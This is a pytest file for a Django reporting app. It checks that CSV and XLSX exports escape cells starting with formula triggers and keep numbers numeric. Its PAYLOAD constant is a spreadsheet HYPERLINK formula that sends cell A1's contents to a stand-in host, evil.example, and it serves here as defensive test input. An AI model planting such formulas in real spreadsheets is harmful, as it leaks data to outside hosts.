"""CSV and XLSX downloads: text that a spreadsheet would run as a formula is neutralised."""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from core.spreadsheets import append_row, safe_cell
from reports.engine.generate import build_report
from reports.outputs.csv import to_csv
from reports.outputs.xlsx import to_xlsx
from tests.factories import EnteredFigureFactory, OrganizationFactory

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_text_starting_with_a_trigger_is_prefixed_in_csv(trigger):
    assert safe_cell(trigger + PAYLOAD) == "'" + trigger + PAYLOAD


@pytest.mark.parametrize("value", [-3, 0, 2.5, -0.5, "-3", "+4", "-1.5e3", "", "台账", "a=b", None])
def test_numbers_and_harmless_text_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_text_starting_with_a_trigger_is_a_string_cell_in_xlsx(trigger):
    workbook = Workbook()
    append_row(workbook.active, [trigger + PAYLOAD, -3, 4.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(buffer).active.iter_rows())
    assert (cells[0].data_type, cells[0].value) == ("s", trigger + PAYLOAD)
    assert [(c.data_type, c.value) for c in cells[1:]] == [("n", -3), ("n", 4.5)]


@pytest.fixture
def doc(db):
    district = OrganizationFactory(code="zlj", name="自贡市自流井区人民政府", kind="government")
    EnteredFigureFactory(
        organization=district, year=2016, key="window.visitors", value=37000, note="=1+2"
    )
    return build_report(
        organization=district,
        year=2016,
        format="gb2021",
        texts={"problems": "@SUM(1,2) 更新不及时"},
    )


def test_the_report_csv_neutralises_staff_notes(doc):
    with translation.override("en"):  # the English headings the test names
        rows = list(csv.reader(io.StringIO(to_csv(doc))))
    header = rows[0]
    visitors = next(r for r in rows if r[0] == "window.visitors")
    assert visitors[header.index("note")] == "'=1+2"
    assert visitors[header.index("value")] == "37000"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_report_xlsx_has_no_formula_and_keeps_numbers(doc):
    workbook = load_workbook(io.BytesIO(to_xlsx(doc)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {"=1+2", "@SUM(1,2) 更新不及时"} <= texts
    figures = workbook["指标"]
    visitors = next(r for r in figures.iter_rows() if r[0].value == "window.visitors")
    assert (visitors[3].data_type, visitors[3].value) == ("n", 37000)
